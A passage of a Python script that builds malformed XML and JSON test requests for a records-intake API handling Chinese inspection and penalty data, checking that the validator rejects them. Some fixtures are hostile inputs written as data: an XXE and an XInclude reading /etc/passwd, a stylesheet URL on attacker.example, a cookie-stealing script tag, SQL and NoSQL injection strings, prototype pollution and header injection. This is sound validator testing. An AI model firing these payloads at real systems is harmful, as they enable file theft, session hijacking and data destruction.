xreq("duplicate-nested", "duplicate_element", "<name> twice inside <party>", once(DUP, "<nature>", "<name>某公司</name><nature>"))
xreq("duplicate-section", "duplicate_element", "<inspection> twice in a record",
     once(DUP, "<submittedAt>", xel("inspection", I()["inspection"]) + "<submittedAt>"))
xreq("duplicate-in-inspector", "duplicate_element", "<certificateNo> twice in one inspector",
     DUP.replace("<certificateNo>4304002026010</certificateNo>", "<certificateNo>4304002026010</certificateNo><certificateNo>X</certificateNo>"))
xreq("duplicate-unknown-element", "duplicate_element", "an unknown element twice (the duplicate is found before the unknown field)",
     once(DUP, "<submittedBy>", "<extra>1</extra><extra>2</extra><submittedBy>"))
xreq("duplicate-inside-text-field", "duplicate_element", "child elements inside a text field repeat (<actionName><a/><a/></actionName>)",
     once(DUP, "<actionName>对衡阳市某大药房的日常监督检查</actionName>", "<actionName><a/><a/></actionName>"))

# ================================================================ XML: record level (200, record rejected)
xrec("utf8-bom", "invalid_check_digit", "UTF-8 BOM before the declaration is accepted; the record has a wrong party USCC",
     BOM + FILLER_XML.encode())
xrec("utf8-bom-no-declaration", "invalid_check_digit", "UTF-8 BOM and no declaration; wrong party USCC",
     BOM + xbatch(FILLER, decl=False).encode())
xrec("gb18030-charset-header", "invalid_check_digit", "GB18030 bytes named by charset=GB18030; wrong party USCC",
     xbatch(FILLER, encoding="GB18030").encode("gb18030"), ct=XML + "; charset=GB18030")
xrec("gb18030-declared-only", "invalid_region_code", "GB18030 bytes named by the declaration only; region code 43040",
     xbatch(with_(I("HX-X-GB"), ("regionCode", "43040")), encoding="GB18030").encode("gb18030"))
xrec("gbk-declared", "invalid_timestamp", "GBK bytes declared GBK; inspection date without an offset",
     xbatch(with_(I("HX-X-GBK"), ("inspection.date", "2026-11-20T09:30:00")), encoding="GBK").encode("gbk"))
xrec("gb2312-declared", "too_few_inspectors", "GB2312 bytes declared gb2312 (lowercase); one inspector",
     xbatch(with_(I("HX-X-GB2312"), ("inspection.inspectors", [I()["inspection"]["inspectors"][0]])), encoding="gb2312").encode("gb2312"))
xrec("text-xml-media-type", "invalid_check_digit", "text/xml is taken like application/xml; wrong party USCC", FILLER_XML, ct="text/xml")
xrec("stylesheet-pi", "invalid_check_digit", "an xml-stylesheet processing instruction pointing to a remote URL is ignored; wrong party USCC",
     FILLER_XML.replace("\n", '\n<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>\n', 1))
xrec("xinclude-in-record", "unknown_field", "an XInclude element inside a record is not processed and is an unknown field",
     once(xbatch(I("HX-X-XI")), "<submittedBy>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><submittedBy>'))
xrec("unknown-element", "unknown_field", "an element the schema does not know (<extra>)", once(xbatch(I("HX-X-UNK")), "<submittedBy>", "<extra>x</extra><submittedBy>"))
xrec("cdata-in-localid-bad-uscc", "invalid_check_digit", "CDATA holding markup in localId (allowed), wrong party USCC",
     xbatch(with_(FILLER, ("localId", Raw("<![CDATA[HX-<b>&1]]>")))))
xrec("comment-splitting-localid", "invalid_check_digit", "a comment splitting the localId text (HX-<!--c-->A reads HX-A); wrong party USCC",
     xbatch(with_(FILLER, ("localId", Raw("HX-<!-- c -->A")))))
xrec("comment-splitting-boolean", "invalid_money", "tr<!----->ue reads as true in a penalty; fineAmount 5000.001",
     xbatch(with_(penalty("HX-X-CB"), ("penalty.hearing", Raw("tr<!-- c -->ue")), ("penalty.fineAmount", "5000.001"))))
xrec("cdata-in-object-element", "wrong_type", "CDATA text where the item object is expected",
     xbatch(with_(I("HX-X-CO"), ("item", Raw("<![CDATA[JC-0042]]>")))))
xrec("comments-between-fields", "invalid_timestamp", "comments and processing instructions between every field; submittedAt without offset",
     xbatch(with_(I("HX-X-CM"), ("submittedAt", "2026-11-21T10:00:00"))).replace("><", "><!-- c --><?pi d?><"))
xrec("empty-element", "empty", "<actionName/> is an empty text", xbatch(with_(I("HX-X-E"), ("actionName", ""))))
xrec("empty-cdata", "empty", "an empty CDATA section as actionName", xbatch(with_(I("HX-X-EC"), ("actionName", Raw("<![CDATA[]]>")))))
xrec("whitespace-element", "empty", "actionName of spaces, a tab and a newline", xbatch(with_(I("HX-X-W"), ("actionName", Raw(" \t\n ")))))
xrec("text-field-with-children", "wrong_type", "child elements inside localId",
     xbatch(with_(I("HX-X-TC"), ("localId", Raw("<a>1</a>")))))
xrec("text-where-object", "wrong_type", "text where the agency object is expected", xbatch(with_(I("HX-X-TO"), ("agency", "衡阳市市场监督管理局"))))
xrec("mixed-content-object", "wrong_type", "text and elements mixed inside party",
     xbatch(with_(I("HX-X-MC"), ("party", Raw("某公司<name>某公司</name>")))))
xrec("text-where-list", "wrong_type", "text where the inspectors list is expected",
     xbatch(with_(I("HX-X-TL"), ("inspection.inspectors", "检查员1,检查员2"))))
xrec("boolean-yes", "wrong_type", "hearing holds yes, not true/false/1/0", xbatch(with_(penalty("HX-X-BY"), ("penalty.hearing", "yes"))))
xrec("boolean-uppercase", "wrong_type", "hearing holds TRUE (booleans are lowercase)", xbatch(with_(penalty("HX-X-BU"), ("penalty.hearing", "TRUE"))))
xrec("charref-del", "control_character", "actionName holds DEL via &#x7F; (allowed by XML 1.0)", xbatch(with_(I("HX-X-DEL"), ("actionName", Raw("检查&#x7F;")))))
xrec("raw-del-byte", "control_character", "actionName holds a raw DEL byte", xbatch(with_(I("HX-X-RDEL"), ("actionName", "检查\x7f"))))
xrec("charref-cr", "control_character", "actionName holds a carriage return via &#13; (a raw CR would be normalised)",
     xbatch(with_(I("HX-X-CR"), ("actionName", Raw("检查&#13;记录")))))
xrec("charref-tab-in-localid", "invalid_identifier", "localId holds a tab via &#9; (allowed in text, not in an identifier)",
     xbatch(with_(I("HX-X-TAB"), ("localId", Raw("HX&#9;1")))))
xrec("escaped-script", "invalid_check_digit", "escaped <script> markup in party.name; wrong agency USCC check character",
     xbatch(with_(I("HX-X-XSS"), ("party.name", "<script>alert(document.cookie)</script>"), ("agency.code", "11430400013248734J"))))
xrec("sql-in-actionname", "invalid_catalog_code", "SQL injection in actionName; catalogCode of 13 digits",
     xbatch(with_(I("HX-X-SQL"), ("actionName", "'); DELETE FROM records; --"), ("item.catalogCode", "4301210001000"))))
xrec("whitespace-around-boolean", "too_few", "booleans surrounded by whitespace are taken; kinds list empty",
     xbatch(with_(penalty("HX-X-WB"), ("penalty.hearing", Raw("\n  false  \n")), ("penalty.kinds", []))))
xrec("attributes-on-fields-ignored", "invalid_money", "attributes on field elements are ignored; paidAmount -5",
     xbatch(with_(penalty("HX-X-AT"), ("penalty.execution.paidAmount", "-5"))).replace("<localId>", '<localId type="x" onclick="alert(1)">'))
xrec("too-many-inspectors", "too_many", "51 inspectors (at most 50)",
     xbatch(with_(I("HX-X-TM"), ("inspection.inspectors", [{"name": f"检查员{i}", "certificateNo": f"C{i:04d}"} for i in range(51)]))))
xrec("deep-inside-limit-wrong-type", "wrong_type", "localId holding elements nested to depth 32 (allowed) is not text",
     xbatch(with_(I("HX-X-D"), ("localId", Raw("<a>" * 29 + "</a>" * 29)))))

# ================================================================ JSON: request level
jreq("empty-body", "malformed_json", "empty body", b"")
jreq("whitespace-only", "malformed_json", "whitespace only", b" \n\t\r ")
jreq("bom-only", "malformed_json", "a UTF-8 BOM and nothing else", BOM)
jreq("double-bom", "malformed_json", "two UTF-8 BOMs (only one is tolerated)", BOM + BOM + FJ)
jreq("bom-between-members", "malformed_json", "a UTF-8 BOM between two members", FJ.replace(b',"records"', b"," + BOM + b'"records"', 1))
jreq("utf16le-bom", "malformed_json", "UTF-16LE with BOM (JSON must be UTF-8)", codecs.BOM_UTF16_LE + FILLER_JSON.encode("utf-16-le"))
jreq("utf16be-no-bom", "malformed_json", "UTF-16BE without BOM", FILLER_JSON.encode("utf-16-be"))
jreq("utf32le-bom", "malformed_json", "UTF-32LE with BOM", codecs.BOM_UTF32_LE + FILLER_JSON.encode("utf-32-le"))
jreq("gb18030-bytes", "malformed_json", "GB18030 bytes without a charset are not UTF-8", FILLER_JSON.encode("gb18030"))
jreq("not-json", "malformed_json", "plain text", "this is not json")
jreq("xml-as-json", "malformed_json", "an XML batch sent as application/json", FILLER_XML)
jreq("html", "malformed_json", "an HTML error page", "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>")
jreq("jsonp", "malformed_json", "JSONP: the batch wrapped in a callback", "callback(" + FILLER_JSON + ");")
jreq("ndjson-two-values", "malformed_json", "two JSON objects one per line", FILLER_JSON + "\n" + FILLER_JSON)
jreq("trailing-garbage", "malformed_json", "data after the closing brace", FILLER_JSON + "x")
jreq("extra-closing-brace", "malformed_json", "one closing brace too many", FILLER_JSON + "}")

for depth, name in [(65, "nesting-65-arrays"), (65, "nesting-65-objects")]:
    if "arrays" in name:
        jreq(name, "malformed_json", "arrays nested 65 deep at top level (limit 64)", "[" * depth + "]" * depth)
    else:
        jreq(name, "malformed_json", "objects nested 65 deep at top level (limit 64)", '{"a":' * (depth - 1) + "{}" + "}" * (depth - 1))
jreq("nesting-100000-arrays", "malformed_json", "100 000 opening brackets", "[" * 100000)
jreq("nesting-100000-objects", "malformed_json", "100 000 nested objects, unterminated", '{"a":' * 100000)
jreq("nesting-65-in-record", "malformed_json", "a localId of arrays taking the document to depth 65",
     jbatch(with_(FILLER, ("localId", Raw("[" * 62 + "]" * 62)))))
jreq("nesting-65-objects-in-record", "malformed_json", "an unknown member of objects taking the document to depth 65",
     jbatch(with_(FILLER, ("extra", Raw('{"a":' * 61 + "{}" + "}" * 61)))))
jreq("nesting-64-top-array", "wrong_type", "arrays nested exactly 64 deep parse, but the top level is not an object", "[" * 64 + "]" * 64)

T = FILLER_JSON
jreq("truncated-open-brace", "malformed_json", "truncated after the opening brace", "{")
jreq("truncated-member-name", "malformed_json", "truncated inside a member name", T[:T.index('"records"') + 4])
jreq("truncated-after-colon", "malformed_json", "truncated after a colon", T[:T.index('"records":') + 10])
jreq("truncated-after-comma", "malformed_json", "truncated after a comma between members", T[:T.index(',"kind"') + 1])
jreq("truncated-in-string", "malformed_json", "truncated inside a string value", T[:T.index("对衡阳市") + 2])
jreq("truncated-in-escape", "malformed_json", "truncated inside a \\u escape", '{"records":[{"localId":"\\u00')
jreq("truncated-in-literal", "malformed_json", "truncated inside the literal true", '{"records":[{"hearing":tr')
jreq("truncated-in-number", "malformed_json", "truncated after a minus sign", '{"records":[{"localId":-')
jreq("truncated-missing-final-brace", "malformed_json", "the last closing brace is missing", T[:-1])
jreq("truncated-in-multibyte", "malformed_json", "truncated in the middle of a 3-byte UTF-8 character",
     FJ[:FJ.index("对".encode()) + 2])

for name, text, what in [
    ("trailing-comma-object", T[:-3] + ",}]}", "a trailing comma in an object"),
    ("trailing-comma-array", T[:-2] + ",]}", "a trailing comma in an array"),
    ("single-quotes", "{'records':[]}", "single-quoted strings"),
    ("unquoted-keys", "{records:[]}", "unquoted member names"),
    ("line-comment", '{"records":[] // comment\n}', "a // comment"),
    ("block-comment", '{"records":/* c */[]}', "a /* */ comment"),
    ("missing-colon", '{"records" []}', "a member without a colon"),
    ("missing-comma", '{"batchId":"1" "records":[]}', "two members without a comma"),
    ("capital-true", T.replace('"operation":"upsert"', '"operation":True'), "the literal True"),
    ("undefined-literal", T.replace('"submittedBy":"张三"', '"submittedBy":undefined'), "the JavaScript literal undefined"),
    ("nan", T.replace('"submittedBy":"张三"', '"submittedBy":NaN'), "NaN"),
    ("infinity", T.replace('"submittedBy":"张三"', '"submittedBy":Infinity'), "Infinity"),
    ("minus-infinity", T.replace('"submittedBy":"张三"', '"submittedBy":-Infinity'), "-Infinity"),
    ("number-leading-zero", T.replace('"regionCode":"430405"', '"regionCode":0430405'), "a number with a leading zero"),
    ("number-plus-sign", T.replace('"regionCode":"430405"', '"regionCode":+430405'), "a number with a plus sign"),
    ("number-leading-dot", '{"records":[{"fineAmount":.5}]}', "a number starting with a dot"),
    ("number-trailing-dot", '{"records":[{"fineAmount":5.}]}', "a number ending with a dot"),
    ("number-hex", '{"records":[{"fineAmount":0x10}]}', "a hexadecimal number"),
    ("number-65-chars", T.replace('"regionCode":"430405"', '"regionCode":' + "4" * 65), "a number of 65 characters (limit 64)"),
    ("number-1000-digits", T.replace('"regionCode":"430405"', '"regionCode":' + "9" * 1000), "a 1000-digit number"),
    ("number-huge-exponent", T.replace('"regionCode":"430405"', '"regionCode":1e' + "9" * 70), "an exponent of 70 digits"),
    ("raw-tab-in-string", T.replace("对衡阳市", "对\t衡阳市"), "a raw tab inside a string (must be escaped)"),
    ("raw-newline-in-string", T.replace("对衡阳市", "对\n衡阳市"), "a raw newline inside a string"),
    ("raw-nul-in-string", T.replace("对衡阳市", "对\x00衡阳市"), "a raw NUL byte inside a string"),
    ("raw-unit-separator-in-string", T.replace("对衡阳市", "对\x1f衡阳市"), "a raw 0x1F byte inside a string"),
    ("escape-nul", T.replace("对衡阳市", "对\\u0000衡阳市"), "the escape \\u0000 in actionName"),
    ("escape-nul-member-name", T.replace('"submittedBy"', '"submitted\\u0000By"'), "the escape \\u0000 in a member name"),
    ("escape-x", T.replace("对衡阳市", "\\x41"), "the escape \\x41"),
    ("escape-single-quote", T.replace("对衡阳市", "\\'"), "the escape \\'"),
    ("escape-capital-u", T.replace("对衡阳市", "\\U0041"), "the escape \\U0041"),
    ("escape-short-unicode", T.replace("对衡阳市", "\\u12"), "a \\u escape with two hex digits"),
    ("escape-bad-hex", T.replace("对衡阳市", "\\uZZZZ"), "a \\u escape with non-hex digits"),
    ("escape-lone-high-surrogate", T.replace("对衡阳市", "\\uD800"), "a lone high surrogate escape"),
    ("escape-lone-low-surrogate", T.replace("对衡阳市", "\\uDC00"), "a lone low surrogate escape"),
    ("escape-high-then-non-low", T.replace("对衡阳市", "\\uD800\\u0041"), "a high surrogate followed by \\u0041"),
    ("duplicate-records", T[:-1] + ',"records":[]}', "the member records twice"),
    ("duplicate-batchid", T.replace('"records"', '"batchId":"2","records"', 1), "the member batchId twice"),
    ("duplicate-localid", T.replace('"kind"', '"localId":"HX-2","kind"', 1), "localId twice in a record"),
    ("duplicate-nested-party-name", T.replace('"nature":"2"', '"name":"另一公司","nature":"2"', 1), "party.name twice"),
    ("duplicate-via-escape", T.replace('"kind"', '"local\\u0049d":"HX-2","kind"', 1), "localId and local\\u0049d are the same name"),
    ("duplicate-in-inspector", T.replace('"certificateNo":"4304002026010"', '"certificateNo":"4304002026010","certificateNo":"X"', 1),
     "certificateNo twice in one inspector"),
    ("duplicate-empty-name", T.replace('"submittedBy"', '"":1,"":2,"submittedBy"', 1), "the empty member name twice"),
]:
    jreq(name, "malformed_json", what, text)

for name, seq, what in [
    ("invalid-utf8-overlong-2byte", b"\xc0\xaf", "overlong 2-byte encoding C0 AF"),
    ("invalid-utf8-overlong-c1", b"\xc1\xbf", "overlong 2-byte encoding C1 BF"),
    ("invalid-utf8-overlong-3byte", b"\xe0\x80\xaf", "overlong 3-byte encoding E0 80 AF"),
    ("invalid-utf8-overlong-4byte", b"\xf0\x80\x80\xaf", "overlong 4-byte encoding F0 80 80 AF"),
    ("invalid-utf8-overlong-nul", b"\xc0\x80", "overlong encoding of NUL (modified UTF-8)"),
    ("invalid-utf8-surrogate-high", b"\xed\xa0\x80", "UTF-8 encoded high surrogate U+D800"),
    ("invalid-utf8-surrogate-low", b"\xed\xbf\xbf", "UTF-8 encoded low surrogate U+DFFF"),
    ("invalid-utf8-cesu-pair", b"\xed\xa0\xbd\xed\xb8\x80", "CESU-8 surrogate pair for an emoji"),
    ("invalid-utf8-above-10ffff", b"\xf4\x90\x80\x80", "code point U+110000"),
    ("invalid-utf8-f5", b"\xf5\x80\x80\x80", "lead byte 0xF5"),
    ("invalid-utf8-ff", b"\xff", "the byte 0xFF"),
    ("invalid-utf8-fe", b"\xfe", "the byte 0xFE"),
    ("invalid-utf8-lone-continuation-80", b"\x80", "a lone continuation byte 0x80"),
    ("invalid-utf8-lone-continuation-bf", b"\xbf", "a lone continuation byte 0xBF"),
    ("invalid-utf8-truncated-sequence", b"\xe4\xb8", "a 3-byte sequence missing its last byte"),
    ("invalid-utf8-latin1-byte", b"caf\xe9", "a Latin-1 e-acute byte"),
]:
    jreq(name, "malformed_json", f"invalid UTF-8 in actionName: {what}", FJ.replace("对衡阳市".encode(), seq, 1))
jreq("invalid-utf8-in-member-name", "malformed_json", "invalid UTF-8 (0xFF) in a member name", FJ.replace(b'"submittedBy"', b'"submitted\xffBy"', 1))
jreq("invalid-utf8-outside-string", "malformed_json", "a non-ASCII byte between members", FJ.replace(b',"kind"', b",\xa0\"kind\"", 1))

jreq("top-null", "wrong_type", "the document is null", "null")
jreq("top-true", "wrong_type", "the document is true", "true")
jreq("top-number", "wrong_type", "the document is a number", "1")
jreq("top-string", "wrong_type", "the document is a string", '"records"')
jreq("top-empty-array", "wrong_type", "the document is an empty array", "[]")
jreq("top-array-of-records", "wrong_type", "the records array without the batch object", "[" + jdump(FILLER) + "]")
jreq("records-null", "wrong_type", "records is null", '{"batchId":"2026112600001","records":null}')
jreq("records-object", "wrong_type", "records is an object", '{"records":' + jdump(FILLER) + "}")
jreq("records-string", "wrong_type", "records is a string", '{"records":"[]"}')
jreq("records-number", "wrong_type", "records is a number", '{"records":1}')
jreq("missing-records", "required", "an empty object", "{}")
jreq("missing-records-with-batchid", "required", "only a batchId", '{"batchId":"2026112600001"}')
jreq("records-empty", "empty", "records is an empty array", '{"batchId":"2026112600001","records":[]}')
jreq("unknown-top-member", "unknown_field", "an unknown top-level member before records", '{"department":"HY-WJ",' + T[1:])
jreq("records-capitalised", "unknown_field", "Records instead of records", T.replace('"records"', '"Records"'))
jreq("proto-member", "unknown_field", "a __proto__ member at top level", '{"__proto__":{"admin":true},' + T[1:])
jreq("batchid-number", "invalid_value", "batchId is a number", T.replace('"batchId":"2026112600001"', '"batchId":2026112600001'))
jreq("batchid-too-long", "invalid_value", "batchId of 51 characters", T.replace("2026112600001", "B" * 51))
jreq("batchid-control", "invalid_value", "batchId with \\u0001", T.replace("2026112600001", "2026\\u00011"))
jreq("batchid-del", "invalid_value", "batchId with \\u007f", T.replace("2026112600001", "2026\\u007f1"))
jreq("batchid-object", "invalid_value", "batchId is an object", T.replace('"batchId":"2026112600001"', '"batchId":{"$ne":null}'))
jreq("too-many-records-1001", "too_many_records", "1 001 empty records (limit 1 000)", '{"records":[' + ",".join(["{}"] * 1001) + "]}")
jreq("too-many-records-null", "too_many_records", "1 001 null records", '{"records":[' + ",".join(["null"] * 1001) + "]}")
jreq("too-many-records-50000", "too_many_records", "50 000 empty records", '{"records":[' + ",".join(["{}"] * 50000) + "]}")

for name, cs in [("gbk", "GBK"), ("gb18030", "GB18030"), ("utf-16", "UTF-16"), ("iso-8859-1", "ISO-8859-1"), ("us-ascii", "us-ascii"),
                 ("empty", ""), ("quoted-latin1", '"latin1"'), ("utf-8-bom", "UTF-8-BOM")]:
    jreq(f"charset-{name}", "unsupported_charset", f"Content-Type charset={cs or '(empty)'} is not taken for JSON", T, ct=f"{JSON}; charset={cs}")
jreq("charset-gbk-with-gbk-bytes", "unsupported_charset", "GBK bytes honestly labelled charset=GBK: JSON must be UTF-8",
     T.encode("gbk"), ct=JSON + "; charset=GBK")

# ================================================================ unsupported media types (415)
for name, ct in [("text-plain", "text/plain"), ("text-plain-utf8", "text/plain; charset=utf-8"), ("text-json", "text/json"),
                 ("application-javascript", "application/javascript"), ("problem-json", "application/problem+json"),
                 ("ld-json", "application/ld+json"), ("x-json", "application/x-json"), ("json-with-comma-list", "application/json, text/plain"),
                 ("form-urlencoded", "application/x-www-form-urlencoded"), ("multipart", "multipart/form-data; boundary=xyz"),
                 ("octet-stream", "application/octet-stream"), ("wildcard", "*/*"), ("html", "text/html")]:
    add(f"ct-{name}.json", ct, 415, "unsupported_media_type", "request", f"Content-Type {ct}", T)
for name, ct in [("soap-xml", "application/soap+xml"), ("xhtml-xml", "application/xhtml+xml"), ("svg-xml", "image/svg+xml"),
                 ("xml-dtd", "application/xml-dtd"), ("atom-xml", "application/atom+xml")]:
    add(f"ct-{name}.xml", ct, 415, "unsupported_media_type", "request", f"Content-Type {ct}", FILLER_XML)
add("ct-svg-with-xxe.xml", "image/svg+xml", 415, "unsupported_media_type", "request", "an SVG with XXE under image/svg+xml: refused by media type first",
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')

# ================================================================ 413
add("oversize.json", JSON, 413, "body_too_large", "request",
    "placeholder: the test streams 100 MB of JSON instead of reading this file (limit HUB_MAX_BODY_BYTES)", "GENERATE:100MB")

# ================================================================ JSON: record level (200, record rejected)
jrec("utf8-bom", "invalid_check_digit", "UTF-8 BOM is tolerated; wrong party USCC check character", BOM + FJ)
jrec("utf8-bom-and-whitespace", "invalid_region_code", "UTF-8 BOM, then whitespace; region code 000000",
     BOM + b"\r\n  " + jbatch(with_(I("HX-J-BOM2"), ("regionCode", "000000"))).encode())
jrec("charset-utf-8", "invalid_check_digit", "charset=utf-8 is taken; wrong party USCC", T, ct=JSON + "; charset=utf-8")
jrec("charset-utf8-quoted", "invalid_check_digit", 'charset="UTF8" (quoted) is taken; wrong party USCC', T, ct=JSON + '; charset="UTF8"')
jrec("media-type-uppercase", "invalid_check_digit", "APPLICATION/JSON is compared case-insensitively; wrong party USCC", T, ct="APPLICATION/JSON")
jrec("charset-first-wins", "invalid_check_digit", "two charset parameters: the first (utf-8) is used; wrong party USCC",
     T, ct=JSON + "; charset=utf-8; charset=gbk")
jrec("batchid-50-chars", "invalid_check_digit", "batchId of exactly 50 characters is taken; wrong party USCC", T.replace("2026112600001", "B" * 50))
jrec("batchid-null", "invalid_check_digit", "batchId null is taken as absent; wrong party USCC", T.replace('"2026112600001"', "null"))
jrec("batch-1000-empty-records", "required", "exactly 1 000 records, each an empty object",
     '{"records":[' + ",".join(["{}"] * 1000) + "]}")
jrec("nesting-64-in-record", "wrong_type", "a localId of arrays reaching exactly depth 64 parses, and is not a string",
     jbatch(with_(I("HX-J-N64"), ("localId", Raw("[" * 61 + "]" * 61)))))
jrec("number-64-chars-localid", "wrong_type", "a 64-character number (the longest taken) as localId",
     jbatch(with_(I("HX-J-N64C"), ("localId", Raw("1" * 64)))))
jrec("number-30-digits-localid", "wrong_type", "a 30-digit number where the localId string is expected",
     jbatch(with_(I("HX-J-N30"), ("localId", Raw("123456789012345678901234567890")))))
jrec("number-huge-exponent-short", "wrong_type", "1e999999 (short literal, no overflow check) as regionCode",
     jbatch(with_(I("HX-J-EXP"), ("regionCode", Raw("1e999999")))))
jrec("number-negative-zero", "wrong_type", "-0 as localId", jbatch(with_(I("HX-J-NZ"), ("localId", Raw("-0")))))

# wrong types
WT = [
    ("localid-number", I(), "localId", Raw("12345"), "a number for localId"),
    ("localid-true", I(), "localId", True, "true for localId"),
    ("localid-array", I(), "localId", ["HX-1"], "an array for localId"),
    ("localid-object", I(), "localId", {"$gt": ""}, "an object for localId (NoSQL operator)"),
    ("item-array", I(), "item", [I()["item"]], "an array for item"),
    ("item-string", I(), "item", "JC-0042", "a string for item"),
    ("party-string", I(), "party", "衡阳市某大药房有限公司", "a string for party"),
    ("hearing-string", penalty(), "penalty.hearing", "true", 'the string "true" for hearing'),
    ("hearing-number", penalty(), "penalty.hearing", Raw("1"), "the number 1 for hearing"),
    ("hearing-null-string", penalty(), "penalty.hearing", "null", 'the string "null" for hearing'),
    ("inspectors-object", I(), "inspection.inspectors", {"name": "检查员1", "certificateNo": "1"}, "an object for inspectors"),
    ("inspectors-string", I(), "inspection.inspectors", "检查员1,检查员2", "a string for inspectors"),
    ("inspector-string", I(), "inspection.inspectors[1]", "检查员2", "a string as one inspector"),
    ("kinds-string", penalty(), "penalty.kinds", "01,02", "a string for kinds"),
    ("kind-element-number", penalty(), "penalty.kinds[0]", Raw("1"), "a number as a penalty kind"),
    ("fineamount-number", penalty(), "penalty.fineAmount", Raw("5000.00"), "money as a JSON number"),
    ("paidamount-number", penalty(), "penalty.execution.paidAmount", Raw("5000"), "paidAmount as a JSON number"),
    ("regioncode-number", I(), "regionCode", Raw("430405"), "a number for regionCode"),
    ("date-epoch-number", I(), "inspection.date", Raw("1795404600"), "Unix seconds for inspection.date"),
    ("submittedat-array", I(), "submittedAt", ["2026-11-21T10:00:00+08:00"], "an array for submittedAt"),
    ("agency-code-number", I(), "agency.code", Raw("114304000132487340"), "a number for agency.code"),
    ("kind-number", I(), "kind", Raw("1"), "a number for kind"),
    ("legalreview-done-string", penalty(), "penalty.legalReview.done", "是", "a string for legalReview.done"),
    ("inspection-array", I(), "inspection", [], "an array for inspection"),
    ("subject-bool", I(), "subject", False, "false for subject"),
]
for name, base, path, value, what in WT:
    jrec(f"wrong-type-{name}", "wrong_type", what, with_(base, ("localId", f"HX-WT-{name}") if path != "localId" else ("kind", "inspection"), (path, value)))
jrec("wrong-type-record-string", "wrong_type", "a record that is a string", '{"records":["HX-1"]}')
jrec("wrong-type-record-null", "wrong_type", "a record that is null", '{"records":[null]}')
jrec("wrong-type-record-array", "wrong_type", "a record that is an array of records", '{"records":[[' + jdump(I("HX-WT-RA")) + "]]}")
jrec("wrong-type-record-number", "wrong_type", "a record that is a number", '{"records":[1]}')

# required, empty, too long, identifiers, values
RQ = [
    ("localid-missing", I(), [("localId", DEL)], "localId missing"),
    ("localid-null", I(), [("localId", None)], "localId null counts as missing"),
    ("kind-missing", I("HX-RQ-2"), [("kind", DEL)], "kind missing"),
    ("agency-code-missing", I("HX-RQ-3"), [("agency.code", DEL)], "agency.code missing"),
    ("party-missing", I("HX-RQ-4"), [("party", DEL)], "party missing"),
    ("submittedat-missing", I("HX-RQ-5"), [("submittedAt", DEL)], "submittedAt missing"),
    ("inspectors-missing", I("HX-RQ-6"), [("inspection.inspectors", DEL)], "inspection.inspectors missing"),
    ("inspection-section-missing", I("HX-RQ-7"), [("inspection", DEL)], "an inspection record without its inspection section (rule)"),
    ("fine-amount-for-kind-02", penalty("HX-RQ-8"), [("penalty.fineAmount", DEL)], "kinds holds 02 (fine) but fineAmount is missing (rule)"),
    ("legal-review-date", penalty("HX-RQ-9"), [("penalty.legalReview.date", DEL)], "legalReview.done true without a date (rule)"),
    ("catalog-code-for-implementation", I("HX-RQ-10"), [("item.catalogCode", DEL)], "implementationCode without catalogCode (rule)"),
]
for name, base, changes, what in RQ:
    jrec(f"required-{name}", "required", what, with_(base, *changes))
for name, value, what in [("empty-string", "", "an empty actionName"), ("spaces", "    ", "an actionName of spaces"),
                          ("tab-newline", "\t\n\t", "an actionName of a tab and newlines"),
                          ("ideographic-space", "\u3000\u3000", "an actionName of ideographic spaces U+3000"),
                          ("nbsp", "\u00a0", "an actionName of a no-break space")]:
    jrec(f"empty-actionname-{name}", "empty", what, with_(I(f"HX-EM-{name}"), ("actionName", value)))
jrec("empty-localid", "empty", "an empty localId", with_(I(), ("localId", "")))
jrec("too-long-localid", "too_long", "a localId of 51 characters", with_(I(), ("localId", "L" * 51)))
jrec("too-long-localid-100k", "too_long", "a localId of 100 000 characters", with_(I(), ("localId", "L" * 100000)))
jrec("too-long-actionname-chinese", "too_long", "an actionName of 201 Chinese characters", with_(I("HX-TL-2"), ("actionName", "检" * 201)))
jrec("too-long-facts", "too_long", "penalty facts of 4 001 characters", with_(penalty("HX-TL-3"), ("penalty.facts", "事" * 4001)))
jrec("too-long-agency-code", "too_long", "agency.code of 21 characters (the length is checked before the USCC)",
     with_(I("HX-TL-4"), ("agency.code", AGENCY + "ABC")))
jrec("too-long-combining-marks", "too_long", "actionName of 1 letter and 300 combining marks (counted as scalars)",
     with_(I("HX-TL-5"), ("actionName", "a" + "\u0301" * 300)))
jrec("invalid-identifier-tab", "invalid_identifier", "a tab inside localId", with_(I(), ("localId", "HX\t1")))
jrec("invalid-identifier-newline", "invalid_identifier", "a newline inside localId (header injection into the ledger)",
     with_(I(), ("localId", "HX-1\nseq: 1")))
jrec("invalid-identifier-nfd", "invalid_identifier", "localId not in NFC (e + combining acute)", with_(I(), ("localId", "HX-Cafe\u0301")))
jrec("invalid-identifier-localcode-nfd", "invalid_identifier", "item.localCode not in NFC (Hangul jamo)",
     with_(I("HX-ID-4"), ("item.localCode", "\u1100\u1161")))
jrec("invalid-value-kind-case", "invalid_value", "kind Inspection (capitalised)", with_(I("HX-IV-1"), ("kind", "Inspection")))
jrec("invalid-value-operation", "invalid_value", "operation insert", with_(I("HX-IV-2"), ("operation", "insert")))
jrec("invalid-value-operation-upper", "invalid_value", "operation DELETE (uppercase)", with_(I("HX-IV-3"), ("operation", "DELETE")))
for name, base, path, value in [("result-99", I(), "inspection.result", "99"), ("nature-4", I(), "party.nature", "4"),
                                ("nature-long", I(), "party.nature", "2' OR '1'='1"), ("idtype-999", I(), "party.idType", "999"),
                                ("subject-type-05", I(), "subject.type", "05"), ("procedure-03", penalty(), "penalty.procedure", "03"),
                                ("kind-05", penalty(), "penalty.kinds[1]", "05"), ("mode-chinese", I(), "inspection.mode", "现场"),
                                ("category-00", I(), "inspection.category", "00"), ("result-fullwidth", I(), "inspection.result", "０１")]:
    jrec(f"unknown-dictionary-{name}", "unknown_dictionary_value", f"{path} = {value}", with_(base, ("localId", f"HX-DV-{name}"), (path, value)))

# codes
for name, base, changes, code, what in [
    ("party-uscc-check", I(), [("party.idNumber", PARTY_USCC_BAD)], "invalid_check_digit", "party USCC with a wrong check character"),
    ("party-uscc-org-check", I(), [("party.idNumber", uscc_with_check("91330105MA2KER1H5"))], "invalid_check_digit",
     "party USCC whose position-18 check holds but whose organisation-code check (position 17) is wrong"),
